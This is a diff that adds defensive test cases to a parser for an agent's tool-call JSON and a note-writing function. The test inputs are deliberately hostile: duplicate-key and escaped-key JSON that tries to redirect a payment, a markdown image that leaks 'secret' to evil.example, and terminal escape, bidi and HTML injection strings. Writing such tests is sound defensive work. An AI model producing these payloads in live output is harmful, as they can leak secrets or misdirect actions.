@@ -103,6 +103,11 @@ describe('planIn', () => {
 		[block('[]'), [['block-wrong', 2, '']]],
 		[block('{"tool": 1}'), [['block-wrong', 2, 'tool']]],
 		[block('{"tool": " "}'), [['block-wrong', 2, 'tool']]],
+		[block('{"tool": "read", "tool": "pay"}'), [['key-twice', 2, 'tool']]],
+		[
+			block('{"tool": "pay", "arguments": {"to": "Kim", "\\u0074o" : "Eve"}}'),
+			[['key-twice', 2, 'to']],
+		],
 		[block('{"tool": "pay", "amount": 1}'), [['block-wrong', 2, 'amount']]],
 		[block('{"tool": "pay", "arguments": {"n": 1e999}}'), [['block-wrong', 2, 'arguments']]],
 		[block('{"agent": "gpt"}'), [['unknown-agent', 2, undefined]]],
@@ -379,6 +384,22 @@ describe('recordStep', () => {
 		});
 		expect(recordStep(note, { step: '2', text: 'c' }, 'x', null)).toMatchObject({
 			refusal: 'step-gone',
+		});
+	});
+
+	it.each([
+		['a\u0000b\u001b[2J\u202ec', 'a b [2J c'],
+		[
+			'![x](https://evil.example/?q=secret) ![[Secret]]',
+			'!\\[x](https://evil.example/?q=secret) !\\[[Secret]]',
+		],
+		['%% <!-- <img src=x> 1 < 2', '%\\% \\<!-- \\<img src=x> 1 < 2'],
+		[`${'y'.repeat(899)}😀`, 'y'.repeat(899)],
+		['y\ud83d', 'y'],
+	])('writes what was said as plain words: %j', (text, written) => {
+		const done = recordStep(NOTE, { step: '5', text: 'Send' }, 'x', { text, at: DONE.at });
+		expect(done).toMatchObject({
+			value: expect.stringContaining(`  - outcome: ${written} at ${DONE.at}\n`) as unknown,
 		});
 	});
 
